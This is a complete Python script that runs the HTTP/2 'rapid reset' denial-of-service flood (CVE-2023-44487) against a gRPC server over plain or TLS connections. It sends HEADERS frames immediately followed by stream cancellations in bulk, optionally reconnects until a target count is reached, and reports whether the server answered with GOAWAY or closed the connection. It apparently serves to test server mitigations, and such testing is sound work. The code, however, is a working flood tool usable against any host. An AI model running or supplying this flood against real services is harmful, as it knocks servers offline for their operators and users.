#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""grpc_flood.py - the HTTP/2 "rapid reset" flood (CVE-2023-44487) against a gRPC server.

One connection: the client preface, SETTINGS, then for stream ids 1, 3, 5, ... a HEADERS frame
(END_HEADERS, a gRPC request to the health method) immediately followed by RST_STREAM(CANCEL), as
fast as the socket takes them. The same thread drains what the server sends and notes a GOAWAY.
Prints one JSON line: pairs sent, connections, seconds, goaway (the last GOAWAY's error code or
null), goaways (connections that got one), closed_by_server (every connection was).

Usage: grpc_flood.py HOST PORT PAIRS [--tls] [--reconnect]
--no-reset: HEADERS only, every stream left open (the same cost without RST_STREAM).
--reconnect: connect again each time the server closes the connection, until PAIRS are sent.
Needs python3-h2 (hpack) for /usr/bin/python3.
"""
import json
import socket
import ssl
import struct
import sys
import select
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
T_HEADERS, T_RST, T_SETTINGS, T_GOAWAY = 1, 3, 4, 7
END_HEADERS = 0x4
CANCEL = 8


def frame(ftype, flags, sid, payload):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, sid) + payload


def header_block(authority):
    # Never-indexed literals (3-tuples with sensitive=True): the block leaves the server's dynamic
    # table untouched, so the same bytes are valid on every stream.
    hdrs = [(":method", "POST", True), (":scheme", "http", True),
            (":path", "/grpc.health.v1.Health/Check", True), (":authority", authority, True),
            ("content-type", "application/grpc", True), ("te", "trailers", True)]
    return hpack.Encoder().encode(hdrs)


class Frames:
    """Parses what the server sends; notes the first GOAWAY's error code."""

    def __init__(self):
        self.buf, self.goaway = b"", None

    def feed(self, data):
        self.buf += data
        while len(self.buf) >= 9:
            n = (self.buf[0] << 16) | (self.buf[1] << 8) | self.buf[2]
            if len(self.buf) < 9 + n:
                break
            if self.buf[3] == T_GOAWAY and n >= 8 and self.goaway is None:
                self.goaway = struct.unpack(">I", self.buf[13:17])[0]
            self.buf = self.buf[9 + n:]


def one_connection(host, port, pairs, tls, reset=True):
    """Floods one connection until `pairs` are sent or the server closes it; (sent, frames, closed).

    One thread, non-blocking: an OpenSSL connection must not be read and written from two threads at
    once (that broke the TLS flood now and then with a client-side SSL error that looked like the
    server closing without a GOAWAY)."""
    sock = socket.create_connection((host, port))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if tls:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        sock = ctx.wrap_socket(sock, server_hostname=host)
    sock.setblocking(False)
    frames, closed = Frames(), False
    block = header_block("%s:%d" % (host, port))
    out = PREFACE + frame(T_SETTINGS, 0, 0, b"")
    sent, sid, queued = 0, 1, 0
    deadline = None  # set when everything is sent: read on for a GOAWAY or the close this long
    try:
        while not closed:
            if not out and queued < pairs:
                chunk = []
                for _ in range(min(500, pairs - queued)):
                    chunk.append(frame(T_HEADERS, END_HEADERS, sid, block))
                    if reset:
                        chunk.append(frame(T_RST, 0, sid, struct.pack(">I", CANCEL)))
                    sid += 2
                out = b"".join(chunk)
                queued += len(chunk) // (2 if reset else 1)
            if not out and deadline is None:
                sent, deadline = queued, time.monotonic() + 2.0
            if deadline is not None and time.monotonic() >= deadline:
                break
            wr = [sock] if out else []
            r, w, _ = select.select([sock], wr, [], 0.2)
            if r or (tls and sock.pending()):
                try:
                    while True:
                        data = sock.recv(65536)
                        if not data:
                            closed = True
                            break
                        frames.feed(data)
                except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                    pass
            if w and out and not closed:
                try:
                    n = sock.send(out)
                    out = out[n:]
                    if not out:
                        sent = queued
                except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                    pass
    except (ConnectionResetError, BrokenPipeError, ssl.SSLEOFError):
        closed = True  # the server closed (a reset after its GOAWAY and FIN counts as closed)
    try:
        sock.close()
    except OSError:
        pass
    return sent, frames, closed


def main():
    host, port, pairs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    tls = "--tls" in sys.argv[4:]
    reconnect = "--reconnect" in sys.argv[4:]
    reset = "--no-reset" not in sys.argv[4:]
    start = time.monotonic()
    total, conns, goaways, all_closed, last = 0, 0, 0, True, None
    while total < pairs and conns < 1000:
        sent, frames, closed = one_connection(host, port, pairs - total, tls, reset)
        total += sent
        conns += 1
        goaways += frames.goaway is not None
        all_closed = all_closed and closed
        last = frames.goaway
        if not reconnect:
            break
    print(json.dumps({"pairs": total, "connections": conns, "seconds": round(time.monotonic() - start, 3),
                      "goaway": last, "goaways": goaways, "closed_by_server": all_closed}))


if __name__ == "__main__":
    main()
